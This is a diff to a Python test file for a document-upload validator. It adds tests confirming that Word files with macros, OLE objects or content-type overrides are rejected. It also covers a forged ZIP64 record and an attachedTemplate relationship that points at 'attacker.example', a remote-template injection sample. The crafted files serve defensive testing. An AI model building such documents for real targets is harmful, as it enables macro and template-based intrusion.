@@ -27,7 +27,7 @@ def nothing_written(assessment, settings):
 def office_file(main_part: str, **parts: str) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("[Content_Types].xml", parts.pop("[Content_Types].xml", "<Types/>"))
         archive.writestr(main_part, "<x/>")
         for name, text in parts.items():
             archive.writestr(name.replace("__", "/"), text)
@@ -233,6 +233,48 @@ def test_office_files_with_active_content_are_refused(assessment, practitioner, 
         upload(assessment, practitioner, SimpleUploadedFile("report.docx",
                                                             office_file(main, **parts)))
     assert nothing_written(assessment, settings) == before
+
+
+@pytest.mark.parametrize("parts", [
+    # Office finds a part by its relationship, whatever its name.
+    {"word/media/image9.dat": "ole", "word/_rels/document.xml.rels": relationships(
+        f'<Relationship Id="rId7" Type="{RELS}/oleObject" Target="media/image9.dat"/>')},
+    {"word/macros.bin": "vba", "word/_rels/document.xml.rels": relationships(
+        '<Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2006/relationships/'
+        'vbaProject" Target="macros.bin"/>')},
+    {"[Content_Types].xml": '<Types><Override PartName="/word/x.bin" ContentType="application/'
+                           'vnd.ms-office.vbaProject"/></Types>'},
+    # Part names are case-insensitive: an upper-case .RELS is read too.
+    {"word/_rels/settings.xml.RELS": relationships(
+        f'<Relationship Id="r1" Type="{RELS}/attachedTemplate" '
+        'Target="https://attacker.example/t.dotm" TargetMode="External"/>')},
+])
+def test_active_content_is_found_by_relationship_and_content_type(assessment, practitioner,
+                                                                  parts):
+    with pytest.raises(InvalidInput, match="macros, ActiveX controls, embedded objects"):
+        upload(assessment, practitioner, SimpleUploadedFile("report.docx", office_file(
+            "word/document.xml", **parts)))
+
+
+def test_a_document_made_from_a_local_template_is_accepted(assessment, practitioner):
+    """Word records the template a document was made from (often a clinic's own .dotx on a
+    local drive): not content fetched from elsewhere."""
+    content = office_file("word/document.xml", **{
+        "word/_rels/settings.xml.rels": relationships(
+            f'<Relationship Id="r1" Type="{RELS}/attachedTemplate" '
+            'Target="file:///C:\\Templates\\CoA.dotx" TargetMode="External"/>')})
+    document = upload(assessment, practitioner, SimpleUploadedFile("CoA.docx", content))
+    assert document.content_type.endswith("wordprocessingml.document")
+
+
+def test_a_zip64_end_record_is_refused_before_the_zip_is_opened(assessment, practitioner):
+    """Its count and size are not the classic record's (which can say ten parts for a
+    hundred thousand); a document of a few megabytes never needs ZIP64."""
+    content = office_file("word/document.xml")
+    at = content.rfind(b"PK\x05\x06")
+    content = content[:at] + b"PK\x06\x07" + b"\0" * 16 + content[at:]
+    with pytest.raises(InvalidInput, match="more than 5,000 parts"):
+        upload(assessment, practitioner, SimpleUploadedFile("big.docx", content))
 
 
 def test_an_office_file_with_hyperlinks_and_printer_settings_is_accepted(assessment,
